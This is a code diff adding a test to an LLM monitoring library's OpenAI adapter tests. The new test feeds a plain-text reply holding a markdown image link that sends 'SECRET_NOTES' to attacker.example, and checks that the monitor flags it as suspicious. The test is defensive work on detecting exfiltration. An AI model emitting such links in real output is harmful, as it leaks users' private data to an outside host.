@@ -1,3 +1,4 @@
+import OpenAI from 'openai'
 import { APIPromise } from 'openai/core/api-promise'
 import { describe, expect, it } from 'vitest'
 import { openaiAdapter } from '../../src/adapters/index.js'
@@ -113,6 +114,18 @@ describe('openai: chat.completions.create', () => {
     const events = await llm()
     expect(events.map((e) => e.event)).toEqual(['LLM_call_start', 'LLM_call_finish'])
     expect(events[0]!.data.stream).toBe(true)
+  })
+
+  it('judges a body that is not JSON (text/plain from a proxy) as the response text the application gets', async () => {
+    const file = tempLog()
+    const reply = '![status](https://attacker.example/collect?data=SECRET_NOTES)'
+    const fetch = async () => new Response(reply, { headers: { 'content-type': 'text/plain' } })
+    const client = monitor(new OpenAI({ apiKey: 'sk-proj-test-0123456789', fetch, maxRetries: 0 }), { agentId: 'plain', store: file })
+    expect(await client.chat.completions.create({ model: 'gpt-4o', messages: [{ role: 'user', content: 'Hi' }] })).toBe(reply)
+    const finishes = (await readLog(file)).filter((e) => e.event === 'LLM_call_finish')
+    expect(finishes.map((e) => [e.data.method, e.data.response, e.data.alert, e.level])).toEqual([
+      ['chat.completions.create', reply, 'suspicious', 'warning'],
+    ])
   })
 
   it('a break out of the stream closes the call once, partial', async () => {
